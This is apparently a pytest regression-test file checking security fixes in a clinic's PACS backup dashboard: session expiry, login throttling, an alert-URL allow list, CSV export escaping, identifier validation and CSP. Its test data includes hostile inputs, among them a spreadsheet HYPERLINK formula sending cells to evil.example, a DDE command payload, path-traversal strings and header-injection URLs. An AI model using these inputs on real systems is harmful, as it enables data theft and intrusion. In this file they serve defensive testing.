"""Regression tests for the outside security test's findings on the dashboard (items 7-11, 14, 15)."""

from __future__ import annotations

import base64
import csv
import http.server
import io
import json
import re
import sqlite3
import threading

import pytest
from markupsafe import escape

from pacs_backup.contracts.errors import BackupError
from pacs_backup.state.migrate import SchemaTooNew
from pacs_dashboard import create_app, security
from pacs_dashboard.alerts import check_alert_url, shown
from pacs_dashboard.backend import Backend
from pacs_dashboard.backend_api import BackendRefused, NotInBackend, PacsDown
from pacs_dashboard.config import load_dashboard_settings
from pacs_dashboard.db import SCHEMA_VERSION, Database
from tests.support.dashboard_fakes import PASSWORD, FakeBackend, csrf_of

NEW_PASSWORD = "another-long-password-2"
URI_CALLS = {"study", "preview", "restore", "run", "instance_in_pacs", "snapshots", "trigger"}


class RecordingBackend(FakeBackend):
    """The stand-in, noting every call that would build a URI to the plugin."""

    def __init__(self):
        super().__init__()
        self.calls = []

    def __getattribute__(self, name):
        attr = super().__getattribute__(name)
        if name in URI_CALLS:
            calls = super().__getattribute__("calls")

            def noted(*args, **kwargs):
                calls.append((name, *args))
                return attr(*args, **kwargs)

            return noted
        return attr


@pytest.fixture
def backend():
    return RecordingBackend()


def make_app(tmp_path, backend, **extra):
    env = {
        "ORTHANC_URL": "http://127.0.0.1:1",
        "DASHBOARD_DATA_DIR": str(tmp_path),
        "DASHBOARD_USERNAME": "admin",
        "DASHBOARD_PASSWORD": PASSWORD,
        "DASHBOARD_COOKIE_SECURE": "false",
        **extra,
    }
    app = create_app(load_dashboard_settings(env), start_monitor=False, backend=backend)
    app.config["TESTING"] = True
    return app


def login(client, ip="127.0.0.1", user="admin", password=PASSWORD):
    token = csrf_of(client.get("/login", environ_base={"REMOTE_ADDR": ip}).get_data(as_text=True))
    return client.post(
        "/login", data={"username": user, "password": password, "csrf_token": token}, environ_base={"REMOTE_ADDR": ip}
    )


def logged_in_client(app, ip="127.0.0.1"):
    client = app.test_client()
    assert login(client, ip).status_code == 302
    return client


def basic(user, password):
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def error_text(resp) -> str:
    found = re.search(r'<div class="error" role="alert">(.*?)</div>', resp.get_data(as_text=True), re.S)
    return found.group(1) if found else ""


# --- 7: sessions end on the server --------------------------------------------------------------------
def test_logout_ends_the_session_for_every_copy_of_the_cookie(app, backend):
    a = logged_in_client(app)
    stolen = a.get_cookie("pacs_dashboard").value
    token = csrf_of(a.get("/drills").get_data(as_text=True))
    assert a.post("/logout", data={"csrf_token": token}).status_code == 302

    thief = app.test_client()
    thief.set_cookie("pacs_dashboard", stolen)
    resp = thief.get("/")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    assert thief.post("/drills/run", data={"csrf_token": token, "kind": "drill"}).status_code == 401
    assert thief.get("/api/status").status_code == 401
    assert not [c for c in backend.calls if c[0] == "trigger"]


def test_password_change_ends_every_other_session(app):
    a, b = logged_in_client(app), logged_in_client(app, "10.0.0.9")
    stolen = a.get_cookie("pacs_dashboard").value
    token = csrf_of(a.get("/account/password").get_data(as_text=True))

    wrong = a.post(
        "/account/password", data={"csrf_token": token, "current": "nope", "new": NEW_PASSWORD, "again": NEW_PASSWORD}
    )
    assert wrong.status_code == 403 and b.get("/").status_code == 200  # nothing changed

    resp = a.post(
        "/account/password", data={"csrf_token": token, "current": PASSWORD, "new": NEW_PASSWORD, "again": NEW_PASSWORD}
    )
    assert resp.status_code == 302
    assert b.get("/").status_code == 302  # the other browser is logged out
    assert a.get("/").status_code == 200  # this one carries on with a new session
    thief = app.test_client()
    thief.set_cookie("pacs_dashboard", stolen)  # the cookie from before the change
    assert thief.get("/").status_code == 302
    assert login(app.test_client(), "10.0.0.3").status_code == 401
    assert login(app.test_client(), "10.0.0.3", password=NEW_PASSWORD).status_code == 302
    actions = [(r[3], r[4]) for r in app.extensions["db"].audit_rows()]
    assert ("password_changed", "1 other session(s) logged out") in actions


def test_sessions_have_an_absolute_and_an_idle_limit(tmp_path, backend, monkeypatch):
    clock = [1_000_000.0]
    monkeypatch.setattr(security, "now", lambda: clock[0])
    app = make_app(tmp_path, backend, DASHBOARD_SESSION_HOURS="12", DASHBOARD_IDLE_MINUTES="60")
    steady = logged_in_client(app)
    for _ in range(14):  # busy all day, a click every 50 minutes: fine until the 12-hour limit
        clock[0] += 50 * 60
        assert steady.get("/").status_code == 200
    clock[0] += 21 * 60  # 12 h 1 min after login
    assert steady.get("/").status_code == 302

    idle = logged_in_client(app)
    clock[0] += 61 * 60
    resp = idle.get("/api/status", headers={"X-Requested-With": "pacs-dashboard"})
    assert resp.status_code == 401 and "WWW-Authenticate" not in resp.headers  # the page goes to /login itself


# --- 8: throttling cannot be used to lock someone else out ----------------------------------------------
def test_failures_from_one_address_do_not_lock_out_another(app):
    attacker = app.test_client()
    for _ in range(10):
        assert login(attacker, "10.0.0.1", password="wrong").status_code in (401, 429)
    assert login(app.test_client(), "10.0.0.2").status_code == 302  # the real administrator gets in
    assert login(attacker, "10.0.0.1").status_code == 429  # the attacker's address waits


def test_an_address_is_throttled_per_user_name_and_overall(app):
    client = app.test_client()
    for _ in range(security.MAX_FAILURES_PER_USER):
        assert login(client, "10.0.0.4", password="wrong").status_code == 401
    resp = login(client, "10.0.0.4")
    assert resp.status_code == 429 and "Try again in 15 minutes" in error_text(resp)

    sprayer = app.test_client()  # many user names from one address
    for i in range(security.MAX_FAILURES_PER_ADDRESS):
        assert login(sprayer, "10.0.0.5", user=f"user{i}", password="wrong").status_code == 401
    assert login(sprayer, "10.0.0.5").status_code == 429
    assert login(app.test_client(), "10.0.0.6").status_code == 302


def test_failed_monitoring_logins_are_audited_and_throttled_per_address(app):
    client = app.test_client()
    for _ in range(security.MAX_FAILURES_PER_USER):
        resp = client.get("/api/status", headers=basic("admin", "nope"), environ_base={"REMOTE_ADDR": "10.0.0.7"})
        assert resp.status_code == 401
    resp = client.get("/api/status", headers=basic("admin", PASSWORD), environ_base={"REMOTE_ADDR": "10.0.0.7"})
    assert resp.status_code == 429 and "Try again" in resp.get_json()["error"]
    resp = client.get("/api/status", headers=basic("admin", PASSWORD), environ_base={"REMOTE_ADDR": "10.0.0.8"})
    assert resp.status_code == 200
    failed = [r for r in app.extensions["db"].audit_rows() if r[3] == "login_failed"]
    assert len(failed) == security.MAX_FAILURES_PER_USER
    assert all(r[1] == "admin" and r[2] == "10.0.0.7" and "HTTP basic" in r[4] for r in failed)
    assert any(r[3] == "login_throttled" for r in app.extensions["db"].audit_rows())


def test_behind_the_https_front_each_client_address_is_counted_and_forged_ones_are_not(tmp_path, backend):
    """Compose puts the dashboard behind one proxy: without trusting it, every client would share the
    proxy's address and an attacker's failures would lock the administrator out (16.8, 16.15)."""
    app = make_app(tmp_path, backend, DASHBOARD_TRUSTED_PROXIES="1")
    app.config["TESTING"] = True
    proxy = "172.18.0.5"

    def via_proxy(client, client_ip, password=PASSWORD):
        token = csrf_of(client.get("/login", environ_base={"REMOTE_ADDR": proxy}).get_data(as_text=True))
        return client.post(
            "/login",
            data={"username": "admin", "password": password, "csrf_token": token},
            environ_base={"REMOTE_ADDR": proxy},
            headers={"X-Forwarded-For": client_ip, "X-Forwarded-Proto": "https"},
        )

    attacker = app.test_client()
    for _ in range(10):
        assert via_proxy(attacker, "203.0.113.9", password="wrong").status_code in (401, 429)
    assert via_proxy(app.test_client(), "198.51.100.7").status_code == 302
    assert via_proxy(attacker, "203.0.113.9").status_code == 429
    failed = [r for r in app.extensions["db"].audit_rows() if r[3] == "login_failed"]
    assert failed and all(r[2] == "203.0.113.9" for r in failed)

    # Reached directly (no proxy configured), a client's own X-Forwarded-For is not believed.
    direct = make_app(tmp_path / "direct", backend)
    forger = direct.test_client()
    for i in range(10):
        token = csrf_of(forger.get("/login", environ_base={"REMOTE_ADDR": "10.9.9.9"}).get_data(as_text=True))
        forger.post(
            "/login",
            data={"username": "admin", "password": "wrong", "csrf_token": token},
            environ_base={"REMOTE_ADDR": "10.9.9.9"},
            headers={"X-Forwarded-For": f"192.0.2.{i}"},
        )
    assert all(r[2] == "10.9.9.9" for r in direct.extensions["db"].audit_rows() if r[3] == "login_failed")


# --- 9: alert addresses --------------------------------------------------------------------------------
# Servers of the clinic's own (mail, ntfy, Gotify, webhooks) are listed by the installer; a private address
# such as 10.1.1.1 is listed as an address (issue 23: tests/dashboard/test_security_alert_hosts.py).
LISTED_HOSTS = ("hooks.example.org", "mail.example.com", "ntfy.clinic.lan", "gotify.clinic.lan", "10.1.1.1")
GOOD_URLS = [
    "mailtos://user:pass@mail.example.com",
    "mailto://user:pass@clinic.example?smtp=10.1.1.1&port=25&to=vet@example.com",
    "ntfys://clinic-alerts",
    "ntfy://ntfy.clinic.lan/topic",
    "slack://T1/B1/C1",
    "discord://1234/abcd",
    "tgram://123456:abcdef/987",
    "gotifys://gotify.clinic.lan/token",
    "jsons://hooks.example.org/pacs",
    "json://HOOKS.example.org:8080/x?format=text",
]
BAD_URLS = {
    "json://10.0.0.5:6379/": "DASHBOARD_WEBHOOK_HOSTS",
    "jsons://user@hooks.example.org.evil.net/x": "DASHBOARD_WEBHOOK_HOSTS",
    "jsons://hooks.example.org/x?+X-Evil=1": "HTTP headers",
    "jsons://hooks.example.org/x?%2BX-Evil=1": "HTTP headers",
    "mailtos://u:p@mail.example.com?+X-Header=1": "HTTP headers",
    "jsons://hooks.example.org/x?-key=1": "HTTP headers",
    "jsons://hooks.example.org/x?:message=1": "HTTP headers",
    "jsons://hooks.example.org/x?method=GET": "method=",
    "jsons://hooks.example.org/x?format=text&METHOD=head": "method=",
    "http://10.0.0.5/": "not an alert service",
    "xml://10.0.0.5/": "not an alert service",
    "form://10.0.0.5/": "not an alert service",
    "mailtos://u:p@mail.example.com,json://10.0.0.5/": "more than one alert address",
    "ntfy://topic%0d%0aX-Injected:%201": "line breaks",
    "ntfy://topic\tjson://10.0.0.5": "line breaks",
    "no-address-at-all": "not an alert address",
    "mailtos:/user@example.com": "not an alert address",
}


def test_only_the_clinic_alert_services_are_allowed():
    for url in GOOD_URLS:
        assert check_alert_url(url, LISTED_HOSTS) is None, url
    for url, why in BAD_URLS.items():
        problem = check_alert_url(url, LISTED_HOSTS)
        assert problem and why in problem and problem.startswith(shown(url)), (url, problem)


def test_alerts_page_refuses_an_alert_address_naming_it_and_keeps_what_was_typed(tmp_path, backend):
    app = make_app(tmp_path, backend, DASHBOARD_WEBHOOK_HOSTS=" ".join(LISTED_HOSTS))
    client = logged_in_client(app)
    db = app.extensions["db"]
    for url in BAD_URLS:
        page = client.get("/alerts").get_data(as_text=True)
        resp = client.post("/alerts/add", data={"csrf_token": csrf_of(page), "address": url})
        html = resp.get_data(as_text=True)
        assert resp.status_code == 400, url
        assert str(escape(shown(url))) in html, url  # the refusal names the address
        assert f'value="{escape(url.strip())}"' in html, url  # ...and what was typed stays in the box
        assert db.setting("alert_urls", []) == []

    for url in GOOD_URLS:
        page = client.get("/alerts").get_data(as_text=True)
        resp = client.post("/alerts/add", data={"csrf_token": csrf_of(page), "address": url})
        assert resp.status_code == 302, url
    assert db.setting("alert_urls", []) == GOOD_URLS


def test_test_alert_says_only_sent_or_not_and_skips_addresses_stored_before_the_rules(tmp_path, backend, monkeypatch):
    from pacs_dashboard import alerts

    tried = []
    mail = "mailto://u:p@clinic.example?smtp=10.0.0.5&port=25"

    def send(url, title, body, allow=None):
        tried.append(url)
        if url.startswith("ntfy"):
            return alerts.Sent(True, "sent")
        return alerts.Sent(False, "not sent: the host refused the connection (a closed port)")  # 10.0.0.5:25

    monkeypatch.setattr(alerts, "send_alert", send)
    app = make_app(tmp_path, backend, DASHBOARD_WEBHOOK_HOSTS="10.0.0.5")
    app.extensions["db"].set_setting("alert_urls", ["json://10.0.0.5:6379/?+X-Evil=1", mail, "ntfys://clinic-alerts"])
    client = logged_in_client(app)
    page = client.get("/alerts").get_data(as_text=True)
    assert "not used: " in page and "HTTP headers" in page
    resp = client.post("/alerts/test", data={"csrf_token": csrf_of(page)}, follow_redirects=True)
    html = resp.get_data(as_text=True)
    assert tried == [mail, "ntfys://clinic-alerts"]
    assert "Test alert: 1. mailto://clin…: could not be sent (the audit log says why); 2. ntfys://clin…: sent." in html
    assert "10.0.0.5:25" not in html and "X-Evil" not in html and "refused" not in html.lower()


# --- 10: the audit export cannot carry spreadsheet formulas ----------------------------------------------
def test_audit_csv_neutralises_formula_cells(app, logged_in):
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    db = app.extensions["db"]
    for text in evil:
        db.audit("login_failed", text, "=cmd|' /C calc'!A0", text)
    rows = list(csv.reader(io.StringIO(logged_in.get("/audit.csv").get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in evil:
        assert cells.count("'" + text) == 2  # user and detail, kept readable behind the quote
    assert "'=cmd|' /C calc'!A0" in cells


# --- 11: study identifiers are checked before any request to the plugin ---------------------------------
def test_study_paths_are_checked_before_the_backend_is_called(logged_in, backend):
    token = csrf_of(logged_in.get("/drills").get_data(as_text=True))
    backend.calls.clear()
    bad = [
        "..%2F..%2Fsystem",
        "1.2.3%2F..%2F..%2Fsystem",
        "1.2.3/../../system",
        "%2e%2e",
        "1.2.3%20",
        "1." * 70 + "1",
        "1.2.3%3Fexpand",
        "1.2.3%23x",
        "-1.2",
        "1..2",
    ]
    for uid in bad:
        for url in (f"/studies/{uid}", f"/studies/{uid}/preview.png"):
            resp = logged_in.get(url)
            assert resp.status_code == 404, url
            assert "digits and dots" in error_text(resp), url
        resp = logged_in.post(f"/studies/{uid}/restore", data={"csrf_token": token, "source": "minio"})
        assert resp.status_code == 404, uid
    assert backend.calls == []
    assert logged_in.get("/studies/1.2.840.10008.1").status_code == 200
    assert ("study", "1.2.840.10008.1") in backend.calls


class _Orthanc(http.server.BaseHTTPRequestHandler):
    """A stand-in Orthanc answering every request with the class's status and body."""

    status, body, seen = 500, b"", []

    def _answer(self):
        type(self).seen.append(self.path)
        self.send_response(self.status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    do_GET = do_POST = _answer

    def log_message(self, *args):
        pass


@pytest.fixture
def orthanc_stub(tmp_path):
    _Orthanc.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Orthanc)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    settings = load_dashboard_settings(
        {"ORTHANC_URL": f"http://127.0.0.1:{server.server_port}", "DASHBOARD_DATA_DIR": str(tmp_path)}
    )
    yield Backend(settings)
    server.shutdown()
    server.server_close()


def test_backend_client_builds_no_uri_from_a_bad_identifier(orthanc_stub):
    for call in (
        lambda: orthanc_stub.study("../../system"),
        lambda: orthanc_stub.study("1.2.3/../../x"),
        lambda: orthanc_stub.run(10**30),
        lambda: orthanc_stub.run(-1),
        lambda: orthanc_stub.preview("../../system"),
        lambda: orthanc_stub.snapshots("a/../b"),
    ):
        with pytest.raises(NotInBackend):
            call()
    for snapshot in ("../x", "z" * 10, "0" * 65):
        with pytest.raises(BackendRefused):
            orthanc_stub.restore("1.2.3", "minio", snapshot)
    assert orthanc_stub.instance_in_pacs("1.2.3\x00") is None
    assert _Orthanc.seen == []


# --- 14: bad input gets 400/404 with a sentence; nothing internal reaches a page -------------------------
def test_backend_error_bodies_never_reach_the_page(orthanc_stub):
    _Orthanc.status, _Orthanc.body = 500, b'Traceback (most recent call last):\n  File "secret.py", line 1'
    with pytest.raises(PacsDown) as exc:
        orthanc_stub.study("1.2.3")
    assert "Traceback" not in str(exc.value) and "secret" not in str(exc.value)
    _Orthanc.status, _Orthanc.body = 400, json.dumps({"error": "Unknown source 'usb'; use minio."}).encode()
    with pytest.raises(BackendRefused, match=re.escape("Unknown source 'usb'; use minio.")):
        orthanc_stub.restore("1.2.3", "usb", None)
    _Orthanc.status, _Orthanc.body = 404, b'{"error": "x"}'
    with pytest.raises(NotInBackend, match=re.escape("This study is not in the backups.")):
        orthanc_stub.study("1.2.3")
    assert _Orthanc.seen[0] == "/backup/studies/1.2.3"


def test_bad_input_answers_400_or_404_with_a_sentence(logged_in, backend):
    token = csrf_of(logged_in.get("/drills").get_data(as_text=True))
    for url in (
        "/studies/%FF%FE",
        "/studies?q=%FF",
        "/studies?q=a%00b",
        "/studies/1.2.3%00",
        "/restores/99999999999999999999999",
        "/restores/abc",
        "/restores/-1",
        "/studies?from=yesterday",
        "/studies?q=" + "x" * 5000,
        "/no-such-page",
        "/studies?modality=%3Cscript%3E",
    ):
        resp = logged_in.get(url)
        assert resp.status_code in (400, 404), url
        message = error_text(resp)
        assert message.endswith(".") and len(message) > 20 and "Traceback" not in resp.get_data(as_text=True), url
    for url in ("/api/runs/abc", "/api/runs/99999999999999999999999"):
        resp = logged_in.get(url)
        assert resp.status_code == 404 and resp.get_json()["error"].endswith("."), url

    huge = logged_in.post("/settings", data={"csrf_token": token, "replication_minutes": "9" * 400_000})
    assert huge.status_code == 400 and "too long" in error_text(huge) and len(huge.data) < 20_000
    bad_utf8 = logged_in.post(
        "/settings",
        data=b"csrf_token=" + token.encode() + b"&replication_minutes=%FF",
        content_type="application/x-www-form-urlencoded",
    )
    assert bad_utf8.status_code == 400 and "not allowed" in error_text(bad_utf8)
    for form in (
        {"source": "minio", "snapshot": "f" * 100_000},
        {"source": "minio\x00"},
        {"source": "../../x"},
        {"source": "offsite", "snapshot": "not-a-snapshot"},
    ):
        resp = logged_in.post("/studies/1.2.3/restore", data={"csrf_token": token, **form})
        assert resp.status_code == 400 and error_text(resp).endswith("."), form
    assert backend.restores == []
    resp = login(logged_in, password="x" * 5000)
    assert resp.status_code == 400 and "too long" in error_text(resp)


def test_a_failing_backend_shows_a_sentence_not_its_internals(logged_in, backend):
    def broken(*args):
        raise BackupError(
            "Orthanc answered HTTP 500 to GET /backup/studies/1.2.3: Traceback (most recent call last): File secret.py"
        )

    backend.study = broken
    backend.run = broken
    for url in ("/studies/1.2.3", "/restores/5"):
        resp = logged_in.get(url)
        assert resp.status_code == 503 and "Traceback" not in resp.get_data(as_text=True), url
        assert "did not answer" in error_text(resp)
    resp = logged_in.get("/api/runs/5")
    assert resp.status_code == 503 and "Traceback" not in resp.get_data(as_text=True)


# --- 15: no inline script or style; pages still wired to their scripts ----------------------------------
def test_csp_forbids_inline_scripts_and_pages_have_none(app, logged_in):
    pages = [
        "/",
        "/studies?q=DOE",
        "/studies/1.2.3",
        "/restores/7",
        "/drills",
        "/audit",
        "/settings",
        "/account/password",
    ]
    responses = [logged_in.get(p) for p in pages] + [app.test_client().get("/login")]
    for resp in responses:
        assert resp.status_code == 200
        csp = resp.headers["Content-Security-Policy"]
        assert "'unsafe-inline'" not in csp and "script-src 'self'" in csp and "style-src 'self'" in csp
        html = resp.get_data(as_text=True)
        assert not re.search(r"<script(?![^>]*\ssrc=)", html), resp.request.path
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=", html), resp.request.path

    index = responses[0].get_data(as_text=True)
    assert 'data-status-url="/api/status"' in index and 'src="/static/health.js"' in index
    job = responses[3].get_data(as_text=True)
    assert 'data-run-url="/api/runs/7"' in job and 'src="/static/job.js"' in job and 'id="bar"' in job
    anonymous = app.test_client()  # the login page needs them before anyone logs in
    for name, kind in (("health.js", "javascript"), ("job.js", "javascript"), ("dashboard.css", "css")):
        resp = anonymous.get(f"/static/{name}")
        assert resp.status_code == 200 and kind in resp.mimetype
    assert "X-Requested-With" in anonymous.get("/static/health.js").get_data(as_text=True)


# --- the dashboard's database keeps its rows across the upgrade ----------------------------------------
SCHEMA_AS_SHIPPED_IN_VERSION_1 = """
CREATE TABLE IF NOT EXISTS users (username TEXT PRIMARY KEY, password_hash TEXT NOT NULL, created_at REAL NOT NULL);
CREATE TABLE IF NOT EXISTS audit (id INTEGER PRIMARY KEY AUTOINCREMENT, at REAL NOT NULL, username TEXT,
    ip TEXT, action TEXT NOT NULL, detail TEXT NOT NULL DEFAULT '');
CREATE TABLE IF NOT EXISTS login_failures (key TEXT NOT NULL, at REAL NOT NULL);
CREATE TABLE IF NOT EXISTS alerts (problem TEXT PRIMARY KEY, raised_at REAL NOT NULL, message TEXT NOT NULL);
CREATE TABLE IF NOT EXISTS settings (k TEXT PRIMARY KEY, v TEXT NOT NULL);
CREATE TABLE IF NOT EXISTS samples (at REAL PRIMARY KEY, data TEXT NOT NULL);
"""


def test_a_version_1_database_migrates_and_keeps_its_rows(tmp_path):
    path = tmp_path / "dashboard.sqlite"
    con = sqlite3.connect(path)
    con.executescript(SCHEMA_AS_SHIPPED_IN_VERSION_1)
    con.execute("INSERT INTO users VALUES ('admin', 'pbkdf2:sha256:1$x$y', 1.0)")
    con.execute("INSERT INTO audit (at, username, ip, action, detail) VALUES (2.0, 'admin', '10.0.0.1', 'login', '')")
    con.execute("INSERT INTO alerts VALUES ('store', 3.0, 'Local copy unreachable')")
    con.execute("INSERT INTO settings VALUES ('targets', '{\"offsite_hours\": 6}')")
    con.execute("INSERT INTO samples VALUES (4.0, '{\"bytes\": 5}')")
    con.execute("INSERT INTO login_failures VALUES ('user:admin', 5.0)")
    con.commit()
    assert con.execute("PRAGMA user_version").fetchone()[0] == 0
    con.close()

    db = Database(path)
    assert db.query("PRAGMA user_version")[0][0] == SCHEMA_VERSION >= 2
    assert db.user_hash("admin") == "pbkdf2:sha256:1$x$y"
    assert db.audit_rows() == [(2.0, "admin", "10.0.0.1", "login", "")]
    assert db.query("SELECT * FROM alerts") == [("store", 3.0, "Local copy unreachable")]
    assert db.setting("targets", {}) == {"offsite_hours": 6}
    assert db.samples(0) == [(4.0, {"bytes": 5})]
    assert db.query("SELECT * FROM login_failures") == []  # old keys meant "this user, from anywhere"
    sid, _ = db.create_session("admin", "10.0.0.1", 10.0)

    again = Database(path)  # opening again changes nothing
    assert again.query("PRAGMA user_version")[0][0] == SCHEMA_VERSION
    assert again.session(sid, 11.0, 3600, 3600) is not None and again.user_hash("admin")

    con = sqlite3.connect(path)  # a file from a newer dashboard (rolled back) is refused, and left as it was
    con.execute("PRAGMA user_version = 99")
    con.commit()
    con.close()
    with pytest.raises(SchemaTooNew) as refused:
        Database(path)
    assert str(refused.value) == (
        f"The dashboard database {path} was written by a newer release (version 99; this release knows versions "
        f"up to {SCHEMA_VERSION}): install that release or newer, or put back the file as it was before the upgrade."
    )
    assert sqlite3.connect(path).execute("SELECT username FROM users").fetchall() == [("admin",)]


def test_a_dashboard_migration_that_fails_half_way_leaves_the_version_before_and_the_rows(tmp_path, monkeypatch):
    from pacs_dashboard import db as dashboard_db

    path = tmp_path / "dashboard.sqlite"
    monkeypatch.setattr(dashboard_db, "MIGRATIONS", dashboard_db.MIGRATIONS[:2])
    Database(path).execute("INSERT INTO users VALUES ('admin', 'h', 1.0)")

    def half(con: sqlite3.Connection) -> None:  # its first statement runs, then the power goes
        con.execute("ALTER TABLE users ADD COLUMN role TEXT NOT NULL DEFAULT 'admin'")
        raise OSError("the power went")

    monkeypatch.setattr(dashboard_db, "MIGRATIONS", [*dashboard_db.MIGRATIONS, half])
    with pytest.raises(OSError, match="the power went"):
        Database(path)
    con = sqlite3.connect(path)
    assert con.execute("PRAGMA user_version").fetchone()[0] == 2
    assert con.execute("SELECT * FROM users").fetchall() == [("admin", "h", 1.0)]  # no role column: not half-done
    con.close()
    monkeypatch.undo()
    assert Database(path).user("admin") is not None  # the next start runs the real step


def test_audit_times_are_in_the_clinics_time_zone(app, logged_in):
    import time as _time

    winter = _time.mktime((2026, 1, 15, 12, 0, 0, 0, 0, 0)) - _time.timezone  # 12:00 UTC on 15 Jan 2026
    app.extensions["db"].execute(
        "INSERT INTO audit (at, username, ip, action, detail) VALUES (?, ?, ?, ?, ?)",
        (winter, "admin", "127.0.0.1", "tz_probe", ""),
    )
    page = logged_in.get("/audit").get_data(as_text=True)
    assert "15 Jan 2026 13:00" in page  # Europe/Berlin in winter
    csv_text = logged_in.get("/audit.csv").get_data(as_text=True)
    assert "2026-01-15 13:00:00 +0100" in csv_text
